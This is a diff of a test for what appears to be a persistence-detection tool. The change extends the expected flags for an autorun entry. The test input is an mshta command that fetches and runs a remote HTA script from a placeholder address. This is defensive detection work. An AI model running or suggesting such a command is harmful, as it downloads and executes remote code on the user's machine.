@@ -160,7 +160,7 @@ test('a user without rights: what cannot be read is said, the rest is watched', 
     'mshta http://192.0.2.1/a.hta',
   )
   expect(await look()).toMatchObject([
-    { action: 'added', details: { signs: ['script-host'], technique: 'T1547.001' } },
+    { action: 'added', details: { signs: ['script-host', 'remote-script'], technique: 'T1547.001' } },
   ])
 })
 
